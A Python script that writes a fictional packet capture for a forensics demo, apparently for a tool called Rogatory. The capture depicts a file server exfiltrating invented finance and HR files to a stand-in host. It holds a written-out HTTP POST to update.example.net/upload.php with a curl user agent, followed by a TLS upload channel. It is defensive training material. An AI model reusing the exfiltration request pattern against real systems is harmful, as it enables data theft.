#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Write the fictional ``capture.pcap`` example shipped with Rogatory.

A classic libpcap file (little-endian, magic a1b2c3d4, microsecond
timestamps, link type 1 = Ethernet) as a network tap in front of "fs01"
(192.0.2.15), the fictional victim's file server, might have recorded it on
2026-11-13 around 03:41 local time (02:41 UTC):

1. DNS lookup of update.example.net (resolver 192.0.2.53) -> 198.51.100.23;
2. TCP handshake to 198.51.100.23:80, an HTTP POST
   ``/upload.php?id=VBL-2026-1113-7F3A`` whose body is a small gzip'ed tar
   archive of invented "finance" and "hr" CSV files, the server's
   ``200 OK``, and the connection close;
3. DNS lookup of upload.example.net -> 198.51.100.23;
4. TCP handshake to 198.51.100.23:443, a TLS 1.3 ClientHello with SNI
   upload.example.net, the ServerHello, and opaque application-data records
   (the second exfiltration channel), then the close.

Only the standard library is used. IPv4 header checksums and TCP/UDP
checksums are computed correctly. Every "random" byte comes from SHAKE-256
of a fixed label, so the output is byte-for-byte reproducible. After
writing, the file is read back and checked (headers, lengths, checksums).

Everything is invented; only documentation address ranges (RFC 5737) and
example.net names are used.

Usage: make_pcap.py OUTPUT_FILE
"""

from __future__ import annotations

import gzip
import hashlib
import io
import struct
import sys
import tarfile
from datetime import UTC, datetime

# --- hosts ---------------------------------------------------------------

FS01_MAC = bytes.fromhex("02420a00020f")  # locally administered, invented
GATEWAY_MAC = bytes.fromhex("024200000201")
RESOLVER_MAC = bytes.fromhex("024200000235")

FS01 = "192.0.2.15"
RESOLVER = "192.0.2.53"
EXFIL = "198.51.100.23"

START = datetime(2026, 11, 13, 2, 41, 7, 104_233, tzinfo=UTC)  # 03:41:07 CET

CASE_ID = "VBL-2026-1113-7F3A"


def pseudo_random(label: str, n: int) -> bytes:
    """Deterministic filler bytes (stand-in for keys, randoms and ciphertext)."""
    return hashlib.shake_256(b"rogatory-demo-pcap:" + label.encode()).digest(n)


def ip_bytes(addr: str) -> bytes:
    return bytes(int(part) for part in addr.split("."))


def internet_checksum(data: bytes) -> int:
    """RFC 1071 ones'-complement sum of 16-bit words."""
    if len(data) % 2:
        data += b"\x00"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


# --- packet builders -----------------------------------------------------


class Ipv4:
    """Builds IPv4 packets for one sender, with an incrementing IP ID."""

    def __init__(self, src: str, ttl: int, first_id: int) -> None:
        self.src = src
        self.ttl = ttl
        self.next_id = first_id

    def packet(self, dst: str, proto: int, payload: bytes) -> bytes:
        header = struct.pack(
            "!BBHHHBBH4s4s",
            0x45,  # version 4, IHL 5 (20 bytes)
            0,  # DSCP/ECN
            20 + len(payload),  # total length
            self.next_id,
            0x4000,  # flags: don't fragment
            self.ttl,
            proto,
            0,  # checksum placeholder
            ip_bytes(self.src),
            ip_bytes(dst),
        )
        self.next_id = (self.next_id + 1) & 0xFFFF
        checksum = internet_checksum(header)
        return header[:10] + struct.pack("!H", checksum) + header[12:] + payload


def pseudo_header(src: str, dst: str, proto: int, length: int) -> bytes:
    return ip_bytes(src) + ip_bytes(dst) + struct.pack("!BBH", 0, proto, length)


def udp_segment(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
    length = 8 + len(payload)
    header = struct.pack("!HHHH", sport, dport, length, 0)
    checksum = internet_checksum(pseudo_header(src, dst, 17, length) + header + payload) or 0xFFFF
    return struct.pack("!HHHH", sport, dport, length, checksum) + payload


FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def tcp_segment(
    src: str,
    dst: str,
    sport: int,
    dport: int,
    seq: int,
    ack: int,
    flags: int,
    window: int,
    options: bytes,
    payload: bytes,
) -> bytes:
    assert len(options) % 4 == 0
    offset = (20 + len(options)) // 4
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, offset << 4, flags, window, 0, 0)
    header += options
    checksum = internet_checksum(
        pseudo_header(src, dst, 6, len(header) + len(payload)) + header + payload
    )
    return header[:16] + struct.pack("!H", checksum) + header[18:] + payload


def ethernet(dst_mac: bytes, src_mac: bytes, payload: bytes) -> bytes:
    return dst_mac + src_mac + struct.pack("!H", 0x0800) + payload


# --- application payloads --------------------------------------------------


def dns_name(name: str) -> bytes:
    out = b""
    for label in name.split("."):
        out += bytes([len(label)]) + label.encode("ascii")
    return out + b"\x00"


def dns_query(txid: int, name: str) -> bytes:
    return (
        struct.pack("!HHHHHH", txid, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack("!HH", 1, 1)
    )


def dns_answer(txid: int, name: str, address: str, ttl: int) -> bytes:
    question = dns_name(name) + struct.pack("!HH", 1, 1)
    answer = struct.pack("!HHHIH", 0xC00C, 1, 1, ttl, 4) + ip_bytes(address)
    return struct.pack("!HHHHHH", txid, 0x8180, 1, 1, 0, 0) + question + answer


def exfil_archive() -> bytes:
    """A small tar.gz of invented CSV files (the stolen 'f.partaa')."""
    files = {
        "finance/invoices-2026-10.csv": "invoice,customer,amount_eur,due\n"
        + "".join(
            f"VBL-F26-{1000 + i},Demo Customer {i % 23 + 1:03d} B.V.,"
            f"{(i * 7919) % 90000 / 10 + 250:.2f},2026-11-{(i % 28) + 1:02d}\n"
            for i in range(900)
        ),
        "hr/staff-list.csv": "employee_no,name,role,site\n"
        + "".join(
            f"E{200 + i},Employee {i + 1:03d} (fictional),"
            f"{['planner', 'driver', 'warehouse', 'finance', 'it'][i % 5]},"
            f"{['Rotterdam', 'Venlo', 'Utrecht'][i % 3]}\n"
            for i in range(160)
        ),
        "contracts/README.txt": "Contract scans are stored on the NAS (fictional demo data).\n",
    }
    buf = io.BytesIO()
    mtime = int(datetime(2026, 11, 12, 16, 30, tzinfo=UTC).timestamp())
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, text in files.items():
            data = text.encode("ascii")
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = mtime
            info.mode = 0o644
            info.uname = info.gname = "root"
            tar.addfile(info, io.BytesIO(data))
    return gzip.compress(buf.getvalue(), compresslevel=9, mtime=mtime)


def tls_client_hello(server_name: str) -> bytes:
    sni = server_name.encode("ascii")
    extensions = b"".join(
        [
            # server_name
            struct.pack("!HHHBH", 0x0000, len(sni) + 5, len(sni) + 3, 0, len(sni)) + sni,
            # supported_groups: x25519, secp256r1, secp384r1
            struct.pack("!HHH3H", 0x000A, 8, 6, 0x001D, 0x0017, 0x0018),
            # ec_point_formats: uncompressed
            struct.pack("!HHBB", 0x000B, 2, 1, 0),
            # application_layer_protocol_negotiation: http/1.1
            struct.pack("!HHHB", 0x0010, 11, 9, 8) + b"http/1.1",
            # signature_algorithms
            struct.pack("!HHH4H", 0x000D, 10, 8, 0x0403, 0x0804, 0x0401, 0x0503),
            # supported_versions: TLS 1.3, TLS 1.2
            struct.pack("!HHB2H", 0x002B, 5, 4, 0x0304, 0x0303),
            # psk_key_exchange_modes: psk_dhe_ke
            struct.pack("!HHBB", 0x002D, 2, 1, 1),
            # key_share: x25519
            struct.pack("!HHHHH", 0x0033, 38, 36, 0x001D, 32) + pseudo_random("client-share", 32),
        ]
    )
    ciphers = struct.pack("!5H", 0x1301, 0x1302, 0x1303, 0xC02F, 0xC030)
    body = (
        struct.pack("!H", 0x0303)
        + pseudo_random("client-random", 32)
        + bytes([32])
        + pseudo_random("session-id", 32)
        + struct.pack("!H", len(ciphers))
        + ciphers
        + b"\x01\x00"
        + struct.pack("!H", len(extensions))
        + extensions
    )
    handshake = b"\x01" + len(body).to_bytes(3, "big") + body
    return struct.pack("!BHH", 0x16, 0x0301, len(handshake)) + handshake


def tls_server_flight() -> bytes:
    extensions = (
        struct.pack("!HHH", 0x002B, 2, 0x0304)
        + struct.pack("!HHHH", 0x0033, 36, 0x001D, 32)
        + pseudo_random("server-share", 32)
    )
    body = (
        struct.pack("!H", 0x0303)
        + pseudo_random("server-random", 32)
        + bytes([32])
        + pseudo_random("session-id", 32)
        + struct.pack("!HB", 0x1301, 0)
        + struct.pack("!H", len(extensions))
        + extensions
    )
    handshake = b"\x02" + len(body).to_bytes(3, "big") + body
    server_hello = struct.pack("!BHH", 0x16, 0x0303, len(handshake)) + handshake
    change_cipher_spec = struct.pack("!BHHB", 0x14, 0x0303, 1, 1)
    # encrypted EncryptedExtensions/Certificate/CertificateVerify/Finished
    encrypted = application_data("server-handshake", 1187)
    return server_hello + change_cipher_spec + encrypted


def application_data(label: str, length: int) -> bytes:
    return struct.pack("!BHH", 0x17, 0x0303, length) + pseudo_random(label, length)


# --- capture assembly -------------------------------------------------------


class Capture:
    def __init__(self, start: datetime) -> None:
        self.t_us = int(start.timestamp()) * 1_000_000 + start.microsecond
        self.frames: list[tuple[int, bytes]] = []

    def wait(self, microseconds: int) -> None:
        self.t_us += microseconds

    def add(self, frame: bytes) -> None:
        self.frames.append((self.t_us, frame))

    def to_bytes(self) -> bytes:
        out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1)
        for t_us, frame in self.frames:
            out += struct.pack("<IIII", t_us // 1_000_000, t_us % 1_000_000, len(frame), len(frame))
            out += frame
        return out


class TcpFlow:
    """One TCP connection between fs01 and a remote server, seen at fs01's tap."""

    MSS = 1448  # 1460 minus the 12-byte timestamp option

    def __init__(
        self,
        cap: Capture,
        client_ip: Ipv4,
        server_ip: Ipv4,
        sport: int,
        dport: int,
        client_isn: int,
        server_isn: int,
        rtt_us: int,
    ) -> None:
        self.cap, self.cip, self.sip = cap, client_ip, server_ip
        self.sport, self.dport = sport, dport
        self.cseq, self.sseq = client_isn, server_isn
        self.rtt = rtt_us
        # TCP timestamp clocks (1 ms ticks) with per-connection random offsets, as Linux does
        self.c_offset = int.from_bytes(pseudo_random(f"ts-client-{sport}", 4), "big")
        self.s_offset = int.from_bytes(pseudo_random(f"ts-server-{sport}", 4), "big")
        self.last_seen_client_ts = 0  # what the server echoes
        self.last_seen_server_ts = 0  # what the client echoes

    def _clock(self, offset: int) -> int:
        return (offset + self.cap.t_us // 1000) & 0xFFFFFFFF

    def _ts(self, from_client: bool) -> bytes:
        if from_client:
            tsval = self._clock(self.c_offset)
            self.last_seen_client_ts = tsval
            return struct.pack("!BBBBII", 1, 1, 8, 10, tsval, self.last_seen_server_ts)
        tsval = self._clock(self.s_offset)
        self.last_seen_server_ts = tsval
        return struct.pack("!BBBBII", 1, 1, 8, 10, tsval, self.last_seen_client_ts)

    def _send(
        self, from_client: bool, flags: int, payload: bytes = b"", options: bytes | None = None
    ) -> None:
        if options is None:
            options = self._ts(from_client)
        if from_client:
            window = 64240 if flags & SYN else 502  # SYN windows are never scaled
            seg = tcp_segment(
                self.cip.src,
                self.sip.src,
                self.sport,
                self.dport,
                self.cseq,
                self.sseq if flags & ACK else 0,
                flags,
                window,
                options,
                payload,
            )
            frame = ethernet(GATEWAY_MAC, FS01_MAC, self.cip.packet(self.sip.src, 6, seg))
            self.cseq = (self.cseq + len(payload) + (1 if flags & (SYN | FIN) else 0)) & 0xFFFFFFFF
        else:
            window = 65160 if flags & SYN else 509
            seg = tcp_segment(
                self.sip.src,
                self.cip.src,
                self.dport,
                self.sport,
                self.sseq,
                self.cseq,
                flags,
                window,
                options,
                payload,
            )
            frame = ethernet(FS01_MAC, GATEWAY_MAC, self.sip.packet(self.cip.src, 6, seg))
            self.sseq = (self.sseq + len(payload) + (1 if flags & (SYN | FIN) else 0)) & 0xFFFFFFFF
        self.cap.add(frame)

    def handshake(self) -> None:
        # Linux option layout: MSS, SACK permitted, timestamps, NOP, window scale
        self.last_seen_client_ts = self._clock(self.c_offset)
        syn_opts = (
            struct.pack("!BBH", 2, 4, 1460)
            + struct.pack("!BB", 4, 2)
            + struct.pack("!BBII", 8, 10, self.last_seen_client_ts, 0)
            + struct.pack("!BBBB", 1, 3, 3, 7)
        )
        self._send(True, SYN, options=syn_opts)
        self.cap.wait(self.rtt)
        self.last_seen_server_ts = self._clock(self.s_offset)
        synack_opts = (
            struct.pack("!BBH", 2, 4, 1460)
            + struct.pack("!BB", 4, 2)
            + struct.pack("!BBII", 8, 10, self.last_seen_server_ts, self.last_seen_client_ts)
            + struct.pack("!BBBB", 1, 3, 3, 7)
        )
        self._send(False, SYN | ACK, options=synack_opts)
        self.cap.wait(61)
        self._send(True, ACK)

    def client_sends(self, data: bytes, gap_us: int = 212) -> None:
        """Send data in MSS-sized segments; the server ACKs every second one."""
        chunks = [data[i : i + self.MSS] for i in range(0, len(data), self.MSS)]
        for n, chunk in enumerate(chunks, 1):
            self.cap.wait(gap_us)
            self._send(True, PSH | ACK if n == len(chunks) else ACK, chunk)
            if n % 2 == 0 or n == len(chunks):
                self.cap.wait(self.rtt)
                self._send(False, ACK)

    def server_sends(self, data: bytes, think_us: int) -> None:
        self.cap.wait(think_us)
        chunks = [data[i : i + self.MSS] for i in range(0, len(data), self.MSS)]
        for n, chunk in enumerate(chunks, 1):
            self._send(False, PSH | ACK if n == len(chunks) else ACK, chunk)
            self.cap.wait(97)
        self.cap.wait(45)
        self._send(True, ACK)

    def close(self) -> None:
        self.cap.wait(1_388)
        self._send(True, FIN | ACK)
        self.cap.wait(self.rtt)
        self._send(False, FIN | ACK)
        self.cap.wait(52)
        self._send(True, ACK)


def dns_exchange(
    cap: Capture, fs01: Ipv4, resolver: Ipv4, txid: int, sport: int, name: str, answer: str
) -> None:
    query = udp_segment(FS01, RESOLVER, sport, 53, dns_query(txid, name))
    cap.add(ethernet(RESOLVER_MAC, FS01_MAC, fs01.packet(RESOLVER, 17, query)))
    cap.wait(1_733)
    reply = udp_segment(RESOLVER, FS01, 53, sport, dns_answer(txid, name, answer, 300))
    cap.add(ethernet(FS01_MAC, RESOLVER_MAC, resolver.packet(FS01, 17, reply)))


def build() -> bytes:
    cap = Capture(START)
    fs01 = Ipv4(FS01, ttl=64, first_id=0x5A31)
    resolver = Ipv4(RESOLVER, ttl=64, first_id=0x0E02)
    exfil = Ipv4(EXFIL, ttl=51, first_id=0x7C21)

    # 1. DNS for the HTTP upload host
    dns_exchange(cap, fs01, resolver, 0x3F1C, 41877, "update.example.net", EXFIL)

    # 2. HTTP POST on port 80
    body = exfil_archive()
    cap.wait(2_310)
    http = TcpFlow(cap, fs01, exfil, 50412, 80, 0x8C3A_11F0, 0x1D77_0B52, rtt_us=18_412)
    http.handshake()
    request = (
        f"POST /upload.php?id={CASE_ID} HTTP/1.1\r\n"
        "Host: update.example.net\r\n"
        "User-Agent: curl/7.88.1\r\n"
        "Accept: */*\r\n"
        "Content-Type: application/octet-stream\r\n"
        f"Content-Length: {len(body)}\r\n"
        "\r\n"
    ).encode("ascii")
    http.client_sends(request)
    http.client_sends(body)
    response_body = f'{{"status":"ok","id":"{CASE_ID}","stored":{len(body)}}}\n'.encode("ascii")
    response = (
        "HTTP/1.1 200 OK\r\n"
        "Server: nginx\r\n"
        "Date: Fri, 13 Nov 2026 02:41:07 GMT\r\n"
        "Content-Type: application/json\r\n"
        f"Content-Length: {len(response_body)}\r\n"
        "\r\n"
    ).encode("ascii") + response_body
    http.server_sends(response, think_us=41_870)
    http.close()

    # 3. DNS for the second channel (65 s later, as in the auth log)
    cap.wait(64_771_090)
    dns_exchange(cap, fs01, resolver, 0xA40B, 36020, "upload.example.net", EXFIL)

    # 4. TLS on port 443
    cap.wait(1_902)
    tls = TcpFlow(cap, fs01, exfil, 50418, 443, 0x2210_9C4E, 0x6B0E_F3A1, rtt_us=18_105)
    tls.handshake()
    tls.client_sends(tls_client_hello("upload.example.net"))
    tls.server_sends(tls_server_flight(), think_us=3_114)
    tls.client_sends(
        struct.pack("!BHHB", 0x14, 0x0303, 1, 1) + application_data("client-finished", 53)
    )
    tls.client_sends(
        application_data("client-upload-1", 4_096) + application_data("client-upload-2", 1_301)
    )
    tls.server_sends(application_data("server-reply", 211), think_us=96_540)
    tls.close()
    return cap.to_bytes()


# --- self-check ------------------------------------------------------------------


def check(data: bytes) -> int:
    """Parse the capture back and verify structure and checksums. Returns packet count."""
    magic, major, minor, _zone, _sigfigs, snaplen, linktype = struct.unpack_from(
        "<IHHiIII", data, 0
    )
    assert (magic, major, minor, linktype) == (0xA1B2C3D4, 2, 4, 1), "bad global header"
    pos, count, last = 24, 0, 0
    while pos < len(data):
        sec, usec, incl, orig = struct.unpack_from("<IIII", data, pos)
        pos += 16
        frame = data[pos : pos + incl]
        pos += incl
        assert incl == orig == len(frame) and incl <= snaplen and usec < 1_000_000
        assert sec * 1_000_000 + usec >= last, "timestamps must not go backwards"
        last = sec * 1_000_000 + usec
        assert frame[12:14] == b"\x08\x00", "not IPv4"
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        total = struct.unpack_from("!H", ip, 2)[0]
        assert ip[0] >> 4 == 4 and total == len(ip), "bad IPv4 length"
        assert internet_checksum(ip[:ihl]) == 0, "bad IPv4 header checksum"
        proto, src, dst = ip[9], ip[12:16], ip[16:20]
        l4 = ip[ihl:total]
        assert internet_checksum(src + dst + struct.pack("!BBH", 0, proto, len(l4)) + l4) == 0, (
            "bad TCP/UDP checksum"
        )
        count += 1
    assert pos == len(data), "trailing bytes"
    return count


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print(__doc__.strip().splitlines()[-1], file=sys.stderr)
        return 2
    data = build()
    packets = check(data)
    with open(argv[1], "wb") as fh:
        fh.write(data)
    print(f"{argv[1]}: {packets} packets, {len(data)} bytes, self-check passed")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
